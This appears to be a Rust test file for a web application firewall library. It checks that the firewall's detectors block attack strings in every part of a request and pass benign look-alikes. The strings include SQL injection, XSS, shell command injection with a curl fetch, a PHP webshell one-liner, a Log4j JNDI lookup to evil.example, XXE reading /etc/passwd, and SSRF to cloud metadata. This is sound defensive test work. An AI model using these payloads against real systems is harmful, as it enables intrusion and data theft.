@@ -1,0 +1,322 @@
+//! Data-driven checks of the public API, one table per area: text transformations, match
+//! statements (through a one-rule WebACL), and the default WebACL's detectors per family and
+//! per place a value arrives (with the benign look-alikes each detector must pass).
+
+use std::net::{IpAddr, Ipv4Addr};
+use std::time::Instant;
+
+use nuvem_waf::{Request, Transformation as T, WebAcl, apply_transformations};
+
+#[track_caller]
+fn check_transform(list: &[T], input: &str, want: &str) {
+    let got = apply_transformations(list, input.as_bytes());
+    assert_eq!(String::from_utf8_lossy(&got), want, "{list:?} on {input:?}");
+}
+
+#[test]
+fn text_transformations() {
+    check_transform(&[T::None], "A%20b", "A%20b");
+    check_transform(&[T::UrlDecode], "a%20b+c%3C", "a b c<");
+    check_transform(&[T::UrlDecode, T::UrlDecode], "%253Cx", "<x");
+    check_transform(&[T::UrlDecodeUni], "%u003cx%3e", "<x>");
+    check_transform(&[T::HtmlEntityDecode], "&lt;a&#62;&#x3c;&quot;", "<a><\"");
+    check_transform(&[T::Lowercase], "SeLeCt", "select");
+    check_transform(&[T::CompressWhiteSpace], "a \t\n  b", "a b");
+    // CMD_LINE also deletes spaces before a slash (AWS's definition).
+    check_transform(&[T::CmdLine], "C^a\"T  /E'tc", "cat/etc");
+    check_transform(&[T::Base64Decode], "PHNjcmlwdD4=", "<script>");
+    check_transform(&[T::HexDecode], "3c7363726970743e", "<script>");
+    check_transform(&[T::JsDecode], "\\x3cscript\\u003e", "<script>");
+    check_transform(&[T::CssDecode], "\\6a avascript", "javascript");
+    check_transform(&[T::RemoveNulls], "a\0b", "ab");
+    check_transform(&[T::NormalizePath], "/a/./b/../c//d", "/a/c/d");
+    check_transform(&[T::NormalizePathWin], "\\a\\..\\b", "/b");
+    // Order matters: each transformation feeds the next.
+    check_transform(&[T::UrlDecode, T::Lowercase], "%53ELECT", "select");
+    check_transform(&[T::Lowercase, T::UrlDecode], "%53ELECT", "Select");
+}
+
+fn request<'a>(
+    method: &'a str,
+    path: &'a str,
+    query: &'a str,
+    headers: &'a [(&'a str, &'a [u8])],
+    body: &'a [u8],
+) -> Request<'a> {
+    Request {
+        method,
+        path,
+        query,
+        headers,
+        body,
+        body_oversize: false,
+        client_ip: IpAddr::V4(Ipv4Addr::new(203, 0, 113, 9)),
+        at: Instant::now(),
+    }
+}
+
+fn one_rule(statement: &str) -> WebAcl {
+    let json = format!(
+        r#"{{"Name":"t","DefaultAction":{{"Allow":{{}}}},"Rules":[{{"Name":"r","Priority":1,
+        "Action":{{"Block":{{}}}},"Statement":{statement},
+        "VisibilityConfig":{{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":false,"MetricName":"r"}}}}]}}"#
+    );
+    WebAcl::from_json(&json).unwrap_or_else(|e| panic!("{statement}: {e}"))
+}
+
+/// A statement and whether it blocks GET `/p?<query>` with header `X-T: <header>`.
+#[track_caller]
+fn check_statement(statement: &str, query: &str, header: &str, blocked: bool) {
+    let acl = one_rule(statement);
+    let headers: [(&str, &[u8]); 2] = [("User-Agent", b"t"), ("X-T", header.as_bytes())];
+    let verdict = acl.evaluate(&request("GET", "/p", query, &headers, b""));
+    assert_eq!(verdict.is_blocked(), blocked, "{statement} on {query:?}");
+}
+
+const TX: &str = r#""TextTransformations":[{"Priority":0,"Type":"URL_DECODE"}]"#;
+
+#[test]
+fn statements() {
+    let byte = |pos: &str, s: &str| {
+        format!(
+            r#"{{"ByteMatchStatement":{{"SearchString":"{s}","FieldToMatch":{{"QueryString":{{}}}},{TX},"PositionalConstraint":"{pos}"}}}}"#
+        )
+    };
+    check_statement(&byte("CONTAINS", "evil"), "a=xevilx", "", true);
+    check_statement(&byte("CONTAINS", "evil"), "a=good", "", false);
+    check_statement(&byte("EXACTLY", "a=1"), "a=1", "", true);
+    check_statement(&byte("EXACTLY", "a=1"), "a=12", "", false);
+    check_statement(&byte("STARTS_WITH", "a="), "a=1", "", true);
+    check_statement(&byte("ENDS_WITH", "=1"), "a=1", "", true);
+    check_statement(&byte("CONTAINS_WORD", "cat"), "a=the%20cat%20sat", "", true);
+    check_statement(&byte("CONTAINS_WORD", "cat"), "a=concatenate", "", false);
+    let regex = format!(
+        r#"{{"RegexMatchStatement":{{"RegexString":"^a=\\d+$","FieldToMatch":{{"QueryString":{{}}}},{TX}}}}}"#
+    );
+    check_statement(&regex, "a=123", "", true);
+    check_statement(&regex, "a=12x", "", false);
+    let sqli =
+        format!(r#"{{"SqliMatchStatement":{{"FieldToMatch":{{"AllQueryArguments":{{}}}},{TX}}}}}"#);
+    check_statement(&sqli, "q=1%27%20or%20%271%27=%271", "", true);
+    check_statement(&sqli, "q=O%27Brien", "", false);
+    let xss = format!(
+        r#"{{"XssMatchStatement":{{"FieldToMatch":{{"SingleHeader":{{"Name":"x-t"}}}},{TX}}}}}"#
+    );
+    check_statement(&xss, "", "<script>alert(1)</script>", true);
+    check_statement(&xss, "", "a < b > c", false);
+    let size = format!(
+        r#"{{"SizeConstraintStatement":{{"FieldToMatch":{{"QueryString":{{}}}},"ComparisonOperator":"GT","Size":5,{TX}}}}}"#
+    );
+    check_statement(&size, "a=1234", "", true);
+    check_statement(&size, "a=12", "", false);
+    let not = format!(r#"{{"NotStatement":{{"Statement":{size}}}}}"#);
+    check_statement(&not, "a=12", "", true);
+    check_statement(&not, "a=1234", "", false);
+    let and = format!(
+        r#"{{"AndStatement":{{"Statements":[{size},{}]}}}}"#,
+        byte("CONTAINS", "9")
+    );
+    check_statement(&and, "a=9999", "", true);
+    check_statement(&and, "a=1111", "", false);
+    let or = format!(
+        r#"{{"OrStatement":{{"Statements":[{},{}]}}}}"#,
+        byte("CONTAINS", "x"),
+        byte("CONTAINS", "y")
+    );
+    check_statement(&or, "a=y", "", true);
+    check_statement(&or, "a=z", "", false);
+    let ip = r#"{"IPSetReferenceStatement":{"ARN":"arn:aws:wafv2:us-east-1:000000000000:global/ipset/x/1"}}"#;
+    let _ = ip; // IP sets need Resources: covered by tests/engine.rs through from_json_with.
+}
+
+/// Where a value is placed in a request.
+#[derive(Clone, Copy, Debug)]
+enum Place {
+    Query,
+    Form,
+    Json,
+    Cookie,
+    Header,
+    Path,
+}
+
+fn blocked_at(acl: &WebAcl, place: Place, value: &str) -> bool {
+    let enc: String = value
+        .bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect();
+    let mut headers: Vec<(&str, Vec<u8>)> = vec![
+        ("Host", b"shop.example.com".to_vec()),
+        ("User-Agent", b"Mozilla/5.0".to_vec()),
+    ];
+    let (mut method, mut path, mut query, mut body) =
+        ("GET", "/".to_string(), String::new(), Vec::new());
+    match place {
+        Place::Query => query = format!("q={enc}"),
+        Place::Form => {
+            method = "POST";
+            headers.push((
+                "Content-Type",
+                b"application/x-www-form-urlencoded".to_vec(),
+            ));
+            body = format!("q={enc}").into_bytes();
+        }
+        Place::Json => {
+            method = "POST";
+            headers.push(("Content-Type", b"application/json".to_vec()));
+            body = serde_json::json!({ "q": value }).to_string().into_bytes();
+        }
+        Place::Cookie => headers.push(("Cookie", format!("q={enc}").into_bytes())),
+        Place::Header => headers.push(("X-Note", value.as_bytes().to_vec())),
+        Place::Path => path = format!("/items/{enc}"),
+    }
+    let hs: Vec<(&str, &[u8])> = headers.iter().map(|(n, v)| (*n, v.as_slice())).collect();
+    acl.evaluate(&request(method, &path, &query, &hs, &body))
+        .is_blocked()
+}
+
+const PLACES: [Place; 6] = [
+    Place::Query,
+    Place::Form,
+    Place::Json,
+    Place::Cookie,
+    Place::Header,
+    Place::Path,
+];
+
+/// A value is blocked (or passed) in every place.
+#[track_caller]
+fn check_detect(value: &str, blocked: bool) {
+    let acl = WebAcl::default_for_distribution();
+    for place in PLACES {
+        assert_eq!(
+            blocked_at(&acl, place, value),
+            blocked,
+            "{value:?} in {place:?}"
+        );
+    }
+}
+
+#[test]
+fn detectors_per_family_in_every_place() {
+    // SQL injection (libinjection and extended patterns).
+    check_detect("1' OR '1'='1", true);
+    check_detect("1 UNION SELECT username, password FROM users", true);
+    check_detect("x' AND SLEEP(5)-- ", true);
+    check_detect("concat(0x7e,version())", true);
+    check_detect("{\"$where\": \"sleep(100)\"}", true);
+    // XSS.
+    check_detect("<script>alert(1)</script>", true);
+    check_detect("<img src=x onerror=alert(1)>", true);
+    check_detect("javascript:alert(document.cookie)", true);
+    check_detect("<v:vmlframe src=\"x\"/>", true);
+    // Command injection, unix and windows.
+    check_detect("; cat /etc/passwd", true);
+    check_detect("| nohup whoami", true);
+    check_detect("$(curl http://x.example/a.sh)", true);
+    check_detect("IF EXIST data.xls echo found", true);
+    check_detect("FOR %G IN (a,b) DO md C:\\demo\\%G", true);
+    check_detect("() { :; }; /bin/bash -c id", true);
+    // PHP, Java, Node.js, template injection, Log4j, XXE.
+    check_detect("<?php system($_GET['c']); ?>", true);
+    check_detect("$f['x'](17)", true);
+    check_detect(
+        "php://filter/convert.base64-encode/resource=index.php",
+        true,
+    );
+    check_detect("java.lang.Runtime.getRuntime().exec('id')", true);
+    check_detect(
+        "org.apache.commons.collections.functors.InvokerTransformer",
+        true,
+    );
+    check_detect("aW52b2tlcnRyYW5zZm9ybWVy", true); // base64 of invokertransformer
+    check_detect("require('child_process').exec('id')", true);
+    check_detect("{{7*7}}", true);
+    check_detect("${jndi:ldap://evil.example/a}", true);
+    check_detect(
+        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
+        true,
+    );
+    // Traversal, RFI, SSRF.
+    check_detect("../../../../etc/passwd", true);
+    check_detect("http://169.254.169.254/latest/meta-data/", true);
+    check_detect("http://[::1]/admin", true);
+    check_detect("http://host.docker.internal/", true);
+
+    // Look-alikes that ordinary users send.
+    for benign in [
+        "O'Brien",
+        "I'd like to select the blue one",
+        "Please select a file from your computer",
+        "Drop me a line",
+        "Delete my account please",
+        "Create a new playlist",
+        "Who knows what happens next",
+        "time to go home",
+        "Watch the video (2 min)",
+        "Duration in day(s)",
+        "Copy (2 pages) of the contract",
+        "Price: ${price}",
+        "Tom & Jerry",
+        "x > 5 and y < 10",
+        "ana.silva@example.com",
+        "Version 2 (beta)",
+        "runtime of the film: 2h",
+        "Docker is great for local development",
+        "echo on the walls",
+        "If not sure, leave blank",
+        "dual citizenship",
+    ] {
+        check_detect(benign, false);
+    }
+}
+
+/// A session identifier set through the URL from another site is fixation; the same name from
+/// the site itself, or an ordinary argument from elsewhere, is not.
+#[test]
+fn session_fixation_and_uploads() {
+    let acl = WebAcl::default_for_distribution();
+    #[track_caller]
+    fn check(acl: &WebAcl, query: &str, referer: &str, blocked: bool) {
+        let headers: [(&str, &[u8]); 3] = [
+            ("Host", b"shop.example.com"),
+            ("User-Agent", b"Mozilla/5.0"),
+            ("Referer", referer.as_bytes()),
+        ];
+        let v = acl.evaluate(&request("GET", "/login", query, &headers, b""));
+        assert_eq!(v.is_blocked(), blocked, "{query} from {referer}");
+    }
+    check(&acl, "PHPSESSID=abc123", "https://evil.example.net/", true);
+    check(&acl, "jsessionid=abc123", "https://attacker.test/x", true);
+    check(
+        &acl,
+        "laravel_session=eyJpdiI6",
+        "http://phish.example.org/",
+        true,
+    );
+    check(
+        &acl,
+        "PHPSESSID=abc123",
+        "https://www.example.com/cart",
+        false,
+    );
+    check(&acl, "page=2", "https://evil.example.net/", false);
+
+    #[track_caller]
+    fn upload(acl: &WebAcl, name: &str, blocked: bool) {
+        let headers: [(&str, &[u8]); 2] = [("User-Agent", b"t"), ("X-Filename", name.as_bytes())];
+        let v = acl.evaluate(&request("PUT", "/upload", "", &headers, b""));
+        assert_eq!(v.is_blocked(), blocked, "{name}");
+    }
+    upload(&acl, "shell.php", true);
+    upload(&acl, "a.phtml...", true);
+    upload(&acl, "sess_abcdef0123456789", true);
+    upload(&acl, "holiday.jpg", false);
+    upload(&acl, "report.pdf", false);
+}
